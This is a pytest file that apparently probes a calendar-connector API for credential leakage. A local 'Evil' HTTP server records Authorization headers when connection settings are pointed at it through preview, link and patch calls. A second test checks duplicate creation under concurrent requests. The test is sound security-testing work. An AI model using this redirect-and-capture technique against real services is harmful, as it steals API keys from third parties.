from __future__ import annotations
import json, threading, http.server
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any
import pytest
from tests.api.houses import House
from tests.api.synced import account, synced, body
from tests.connectors.contract import Fault
from tests.connectors.sandbox.playing import KEY, SandboxHarness, playing

@pytest.fixture
def calendars() -> Iterator[SandboxHarness]:
    with playing() as harness:
        yield harness

class Evil:
    def __init__(self) -> None:
        self.heard: list[str] = []
        evil = self
        class H(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                evil.heard.append(self.headers.get("authorization", ""))
                self.send_response(500); self.send_header("content-length", "0"); self.end_headers()
            do_PUT = do_POST = do_GET
            def log_message(self, *a: Any) -> None: ...
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.01,)); self.thread.start()
        self.url = f"http://127.0.0.1:{self.server.server_port}"
    def close(self) -> None:
        self.server.shutdown(); self.thread.join(); self.server.server_close()

@pytest.fixture
def evil() -> Iterator[Evil]:
    e = Evil(); yield e; e.close()

def test_preview_leaks_the_key(house: House, calendars: SandboxHarness, evil: Evil) -> None:
    connection = account(house, calendars)
    staff = house.colleague("staff")
    answer = staff.post("/links/preview", {"connection_id": connection["id"], "unit_id": house.rooms[0], "settings": {"url": evil.url, "calendar": "x"}})
    print("PREVIEW", answer.status_code, evil.heard)
    evil.heard.clear()
    answer = house.post("/links", {"connection_id": connection["id"], "direction": "two_way", "unit_id": house.rooms[0], "settings": {"url": evil.url, "calendar": "x"}})
    print("LINK", answer.status_code, evil.heard)
    evil.heard.clear()
    link = synced(house, calendars, connection_id=connection["id"])
    answer = house.client.patch(f"/api/v1/connections/{connection['id']}", json={"settings": {"url": evil.url, "key": "***"}}, headers=getattr(house, "headers", {}))
    print("PATCH", answer.status_code, evil.heard, answer.text[:200])

def test_two_at_once_make_two(house: House, calendars: SandboxHarness) -> None:
    connection = account(house, calendars)
    path = f"/connections/{connection['id']}/calendars"
    with ThreadPoolExecutor(4) as threads:
        answers = list(threads.map(lambda _: house.post(path, {"name": "Room 1"}, Idempotency_Key="one"), range(4)))
    names = [one["name"] for one in house.get(path).json()["items"]]
    print("MADE", names.count("Room 1"), [a.status_code for a in answers])
